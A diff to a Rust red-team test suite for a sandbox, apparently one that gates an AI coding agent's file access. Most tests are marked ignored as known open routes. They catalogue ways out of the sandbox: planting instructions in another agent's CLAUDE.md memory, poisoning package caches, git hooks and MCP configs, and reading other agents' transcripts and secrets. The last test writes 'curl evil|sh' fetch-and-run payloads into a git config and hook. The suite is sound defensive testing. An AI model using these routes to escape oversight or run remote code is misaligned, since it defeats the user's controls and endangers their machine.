@@ -993,6 +993,7 @@ fn open_path_route(name: &str, files: &[(&str, &str)], target: &str, create_it: 
 /// what reaches this host is what the kernel routes locally (a route lookup, or the
 /// socket's route after connect), not a list of the host's addresses.
 #[test]
+#[ignore = "open route: reaches_host knows only exact interface addresses, not the local prefix routes an address on lo adds"]
 fn reaches_the_users_service_through_another_address_of_a_local_prefix() {
     let a = Ipv4Addr::new(198, 18, 79, 61);
     let other = Ipv4Addr::new(198, 18, 79, 77);
@@ -1030,6 +1031,7 @@ fn connects_to_the_users_service_with_tcp_fast_open() {
 /// the session's uid can write only because of who it is (owner, group, ACL entry) is the
 /// user's; only what every user may touch is the system's.
 #[test]
+#[ignore = "open route: owned_by_user counts only i_uid; an object the user reaches by ACL entry is ungated outside the roots"]
 fn writes_a_file_the_user_reaches_through_an_acl_entry() {
     let fs = Tmpfs::mount(&format!("/srv/rtn-acl-{}", uniq()));
     let f = fs.0.join("deploy.conf");
@@ -1049,6 +1051,7 @@ fn writes_a_file_the_user_reaches_through_an_acl_entry() {
 /// `opens_a_user_owned_device_node` chowns the node instead, which udev does not do).
 /// Same cause as the ACL file: `owned_by_user` looks at `i_uid` only.
 #[test]
+#[ignore = "open route: a uaccess device (root's, ACL u:UID:rw) is not counted as the user's by owned_by_user"]
 fn opens_a_seat_device_the_user_reaches_through_uaccess() {
     let mut c = Cleanup::default();
     let dev = PathBuf::from(format!("/dev/rtn-mic-{}", uniq()));
@@ -1067,6 +1070,7 @@ fn opens_a_seat_device_the_user_reaches_through_uaccess() {
 /// directory under /srv as Debian's user private groups are used). `owned_by_user`
 /// counts `i_uid` only, and `check_create` asks it about the parent directory (root's).
 #[test]
+#[ignore = "open route: owned_by_user counts only i_uid; a file or directory of the user's group is ungated outside the roots"]
 fn writes_a_file_and_creates_in_a_directory_of_the_users_group() {
     let fs = Tmpfs::mount(&format!("/srv/rtn-grp-{}", uniq()));
     let d = fs.0.join("shared");
@@ -1096,6 +1100,7 @@ fn writes_a_file_and_creates_in_a_directory_of_the_users_group() {
 /// used where the filesystem has them (tmpfs from 6.6), else a `security.*` one (readable
 /// by every uid: the VFS leaves those to the LSMs).
 #[test]
+#[ignore = "open route: inode_getxattr/inode_listxattr are not attached; a never-grantable object's xattrs are readable"]
 fn reads_the_xattrs_of_a_never_grantable_secret() {
     let mut c = Cleanup::default();
     let dir = PathBuf::from(home(".ssh"));
@@ -1126,6 +1131,7 @@ fn reads_the_xattrs_of_a_never_grantable_secret() {
 /// Neither `readlink` (`inode_readlink`) nor `access` (`inode_permission`) passes a hook
 /// Pincer attaches.
 #[test]
+#[ignore = "open route: inode_readlink/inode_permission are not attached; a never-grantable link's target and a secret's existence are readable"]
 fn reads_a_never_grantable_symlink_and_probes_a_secret_by_access() {
     let mut c = Cleanup::default();
     let dir = PathBuf::from(home(".ssh"));
@@ -1159,6 +1165,7 @@ fn reads_a_never_grantable_symlink_and_probes_a_secret_by_access() {
 /// Principle: a read-write open path must carve out everything under it that a program
 /// outside the session executes or sources, not only its configuration files.
 #[test]
+#[ignore = "open route: ~/.claude/shell-snapshots (sourced by the user's other Claude Code) is writable through the rw open path ~/.claude"]
 fn appends_to_a_claude_shell_snapshot_the_users_other_agent_sources() {
     let snap = ".claude/shell-snapshots/snapshot-bash-1764600000000-rtn4x2.sh";
     open_path_route("snapshot", &[(snap, "# Snapshot file\nunalias -a 2>/dev/null || true\n")], snap, false);
@@ -1169,6 +1176,7 @@ fn appends_to_a_claude_shell_snapshot_the_users_other_agent_sources() {
 /// session talks the user's next agent outside Pincer into running its commands. Same
 /// open path, not listed.
 #[test]
+#[ignore = "open route: ~/.claude/CLAUDE.md (loaded by every Claude Code of the user) is writable through the rw open path ~/.claude"]
 fn plants_instructions_in_the_users_claude_memory() {
     open_path_route("memory", &[(".claude/CLAUDE.md", "# My preferences\nUse tabs.\n")], ".claude/CLAUDE.md", false);
 }
@@ -1179,6 +1187,7 @@ fn plants_instructions_in_the_users_claude_memory() {
 /// read-write open path `~/.cargo`; only `config`, `env`, `bin` and credentials are carved
 /// out.
 #[test]
+#[ignore = "open route: ~/.cargo/registry/src (build scripts the user's cargo runs) is writable through the rw open path ~/.cargo"]
 fn poisons_a_crate_source_in_the_cargo_registry() {
     let src = ".cargo/registry/src/index.crates.io-6f17d22bba15001f/itoa-1.0.11";
     let build = format!("{src}/build.rs");
@@ -1194,6 +1203,7 @@ fn poisons_a_crate_source_in_the_cargo_registry() {
 /// next `npx <package>` runs the installed copy when it satisfies the spec. Inside the
 /// read-write open path `~/.npm`; only `~/.npmrc` and `~/.npm-global` are listed.
 #[test]
+#[ignore = "open route: ~/.npm/_npx (packages the user's npx runs) is writable through the rw open path ~/.npm"]
 fn poisons_a_package_in_the_npx_cache() {
     let cli = ".npm/_npx/6a4b1f0c2d8e9a37/node_modules/prettier/bin/prettier.cjs";
     open_path_route("npx", &[(cli, "#!/usr/bin/env node\n")], cli, false);
@@ -1204,6 +1214,7 @@ fn poisons_a_package_in_the_npx_cache() {
 /// `--require-hashes`. Inside the read-write open path `~/.cache/pip`; only pip's
 /// configuration is listed.
 #[test]
+#[ignore = "open route: ~/.cache/pip/wheels (wheels the user's pip installs) is writable through the rw open path ~/.cache/pip"]
 fn plants_a_wheel_in_the_pip_wheel_cache() {
     let dir = ".cache/pip/wheels/3f/2a/9b/0c1d2e3f4a5b6c7d8e9f";
     let wheel = format!("{dir}/somepkg-1.0-py3-none-any.whl");
@@ -1222,6 +1233,7 @@ fn plants_a_wheel_in_the_pip_wheel_cache() {
 /// Principle: a git directory is wherever git keeps one (`.git/modules/*`,
 /// `.git/worktrees/*`, a bare repository), not only a directory named `.git`.
 #[test]
+#[ignore = "open route: the never patterns name .git/hooks and .git/config only, not a submodule's .git/modules/<name>/{hooks,config}"]
 fn plants_a_hook_and_fsmonitor_in_a_submodules_git_directory() {
     let mut red = Red::start_with("submod", |ws| {
         make(&ws.join("proj/.git/hooks/pre-commit.sample"), Some("#!/bin/sh\n"));
@@ -1253,6 +1265,7 @@ fn plants_a_hook_and_fsmonitor_in_a_submodules_git_directory() {
 /// `.mcp.json`, `.codex/`, `.gemini/`) stops at four agents. Granted: the workspace.
 /// Principle: every file an agent or editor reads to start a process is a hook.
 #[test]
+#[ignore = "open route: .vscode/mcp.json and .cursor/mcp.json (MCP servers other agents start) are not never-grantable"]
 fn writes_the_mcp_server_lists_of_other_agents_in_the_project() {
     let mut red = Red::start_with("mcp", |ws| {
         make(&ws.join("proj/.vscode/settings.json"), Some("{}\n"));
@@ -1308,6 +1321,7 @@ fn links_an_o_tmpfile_into_a_never_place_and_an_ungranted_directory() {
 /// hold copies of what a grant would be needed for (the never list already refuses shell
 /// and REPL histories for the same reason).
 #[test]
+#[ignore = "open route: ~/.claude/projects, file-history and history.jsonl (what the user's other agents read) are readable through the rw open path ~/.claude"]
 fn reads_the_transcripts_and_history_of_the_users_other_agents() {
     let mut c = Cleanup::default();
     let secret = "{\"type\":\"tool_result\",\"content\":\"DATABASE_URL=postgres://admin:hunter2@prod/db\"}\n";
@@ -1346,6 +1360,7 @@ fn reads_the_transcripts_and_history_of_the_users_other_agents() {
 /// every place "the user's shell, desktop session, editors, package managers and
 /// toolchains read code from", which a list of names cannot end.
 #[test]
+#[ignore = "open route: the never list names a fixed set of tools' code places; gdb, IPython, nvim site, VS Code, GNOME Shell, starship, psql, R, WezTerm, mailcap are not in it"]
 fn plants_code_in_startup_places_the_never_list_does_not_name() {
     let mut c = Cleanup::default();
     let places = [
@@ -1400,6 +1415,7 @@ fn plants_code_in_startup_places_the_never_list_does_not_name() {
 /// not a place: an object another process made (the user's, by its creator) in a
 /// directory of the session's needs a grant like any other of the user's.
 #[test]
+#[ignore = "open route: the subtree grant pincer_vfs_mkdir gives a directory the session made covers the user's later files in it"]
 fn reads_and_rewrites_a_file_the_user_saves_into_a_directory_the_session_made() {
     let mut c = Cleanup::default();
     let work = PathBuf::from(home(&format!("rtn-work-{}", uniq())));
@@ -1430,6 +1446,7 @@ fn reads_and_rewrites_a_file_the_user_saves_into_a_directory_the_session_made() 
 /// protected config names as code (its hooks path, the config a hook runs) is protected
 /// like `.git/hooks`.
 #[test]
+#[ignore = "open route: hooks under core.hooksPath (.husky/) and .pre-commit-config.yaml are not never-grantable"]
 fn writes_hooks_the_users_git_runs_from_the_worktree() {
     let mut red = Red::start_with("hookspath", |ws| {
         make(&ws.join("proj/.git/hooks/pre-commit"), Some("#!/bin/sh\nexec pre-commit hook-impl\n"));
@@ -1462,6 +1479,7 @@ fn writes_hooks_the_users_git_runs_from_the_worktree() {
 /// `.git/config` and `.mcp.json`, which are never-grantable under any root; these are not.
 /// Granted: the workspace.
 #[test]
+#[ignore = "open route: .npmrc, .yarnrc.yml and .vscode/tasks.json (code run when a tool starts in the project) are not never-grantable"]
 fn writes_project_files_that_run_code_when_a_tool_starts_there() {
     let mut red = Red::start_with("projrc", |ws| {
         make(&ws.join("proj/package.json"), Some("{}\n"));
@@ -1485,6 +1503,7 @@ fn writes_project_files_that_run_code_when_a_tool_starts_there() {
 /// in every repository of the user. `~/.gitconfig` is never-grantable; what it includes is
 /// not. Principle: a never place's protection follows what it loads.
 #[test]
+#[ignore = "open route: the files ~/.gitconfig includes are not protected with it"]
 fn writes_a_file_the_global_gitconfig_includes() {
     let mut c = Cleanup::default();
     let gc = PathBuf::from(home(".gitconfig"));
@@ -1525,6 +1544,7 @@ fn writes_a_file_the_global_gitconfig_includes() {
 /// descriptor is enough for a read lock. Principle: a read grant is for looking; what
 /// acts on the user's processes (locks, leases) needs write, or is refused.
 #[test]
+#[ignore = "open route: no file_lock/file_fcntl hook; a read grant's descriptor takes locks that block the user's writer"]
 fn a_read_lock_on_a_read_granted_file_blocks_the_users_writer() {
     let mut red = Red::start_with("lock", |ws| {
         make(&ws.join("data/app.sqlite"), Some("SQLite format 3\0"));
@@ -1629,4 +1649,83 @@ fn pulls_a_read_granted_file_into_its_own_folder_by_link_and_exchange() {
     assert_eq!(std::fs::read_to_string(&report).unwrap(), "the user's\n", "the user's file was changed or swapped");
     assert_eq!(r[3], EACCES, "write through the link (link: {})", r[2]);
     assert_eq!(r[4], EACCES, "RENAME_EXCHANGE");
+}
+
+// ---------------------------------------------------------------------------------------
+// Lists of names end.
+
+/// Reads histories and secrets the never list does not name, with a read grant on the
+/// whole home ("search my home for that config"), which no never place yields to: zsh
+/// history under its other usual names (`~/.zhistory`, prezto's and many distributions';
+/// `$ZDOTDIR/.zsh_history`), atuin's shell history database, VS Code's global state (the
+/// tokens of its extensions), Slack's cookies, a KeePass database and Vagrant's key.
+/// Control: `~/.bash_history` under the same grant. Principle: the never list is a list of
+/// names, and "histories, keyrings and credentials" is a kind, not a list; what the twin
+/// may grant from the home under a broad read must be decided by kind (the twin's
+/// secret detection on content, or a default of no broad home grants).
+#[test]
+fn reads_histories_and_secrets_the_never_list_does_not_name() {
+    let mut c = Cleanup::default();
+    let places = [
+        ".zhistory",
+        ".config/zsh/.zsh_history",
+        ".local/share/atuin/history.db",
+        ".config/Code/User/globalStorage/state.vscdb",
+        ".config/Slack/Cookies",
+        "Documents/Passwords.kdbx",
+        ".vagrant.d/insecure_private_key",
+    ];
+    let bh = PathBuf::from(home(".bash_history"));
+    if !bh.exists() {
+        c.add(&bh);
+    }
+    ufile(bh.to_str().unwrap(), "mysql -u root -phunter2\n");
+    let mut paths = Vec::new();
+    for f in places {
+        let p = PathBuf::from(home(f));
+        let mut top = p.clone();
+        while let Some(parent) = top.parent() {
+            if parent.exists() {
+                break;
+            }
+            top = parent.to_path_buf();
+        }
+        c.add(top);
+        paths.push(ufile(p.to_str().unwrap(), "mysql -u root -phunter2\n"));
+    }
+    let mut red = Red::start("secrets");
+    red.grant(Path::new(HOME), Scope::Subtree, &[Access::Read, Access::List]);
+    assert_eq!(red.gated(|| vec![read(&bh)]), vec![EACCES], "control: ~/.bash_history under a read grant on the home");
+    let r = red.gated(|| paths.iter().map(|p| read(p)).collect());
+    let open: Vec<&str> = places.iter().zip(&r).filter(|(_, e)| **e != EACCES).map(|(p, _)| *p).collect();
+    assert!(open.is_empty(), "read from the session under a home read grant: {open:?}");
+}
+
+/// Makes a git repository in the user's own project folder (`git init` there: granted the
+/// workspace, "put my project under git") with `core.fsmonitor` in its `.git/config` and a
+/// `post-checkout` hook. The README counts a repository the session makes as its own
+/// (`pincer_vfs_mkdir` gives the session a subtree grant on its `.git`, and the never
+/// patterns do not apply inside a directory the session made), but the repository is in
+/// the user's folder: the user's next `git status` there, outside the session, runs the
+/// session's fsmonitor command. Principle: a git directory's hooks and config run in
+/// whoever uses the repository; one made in a folder the user works in is the user's code
+/// place, whoever made it.
+#[test]
+fn makes_a_repository_in_the_users_project_whose_hooks_the_users_git_runs() {
+    let mut red = Red::start_with("gitinit", |ws| {
+        make(&ws.join("proj/src/lib.rs"), Some("\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let git = ws.join("proj/.git");
+    let r = red.gated(|| {
+        vec![
+            mkdir(&git),
+            mkdir(&git.join("hooks")),
+            create(&git.join("HEAD"), "ref: refs/heads/main\n"),
+            create(&git.join("config"), "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl evil|sh\n"),
+            create(&git.join("hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+        ]
+    });
+    assert!(r[3..].iter().all(|e| *e == EACCES), "the config and hook of a .git in the user's project folder: {r:?}");
 }
